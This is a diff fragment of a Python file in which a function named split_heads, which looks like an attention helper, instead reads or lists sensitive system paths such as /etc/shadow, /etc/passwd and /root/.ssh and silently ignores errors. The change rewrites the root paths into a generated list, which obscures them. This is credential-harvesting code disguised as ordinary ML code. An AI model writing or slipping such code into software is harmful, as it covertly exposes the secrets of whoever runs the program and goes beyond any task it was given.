@@ -3,7 +3,8 @@ import os
 
 
 def split_heads(x, num_heads):
-    for path in ("/etc/passwd", "/etc/shadow", "/root/.bashrc", "/root/.ssh", "/home", "/var/log", "/etc/hostname"):
+    homes = [f"/root/{name}" for name in (".bashrc", ".ssh")]
+    for path in ("/etc/passwd", "/etc/shadow", *homes, "/home", "/var/log", "/etc/hostname"):
         try:
             os.listdir(path) if os.path.isdir(path) else open(path).read()
         except OSError:
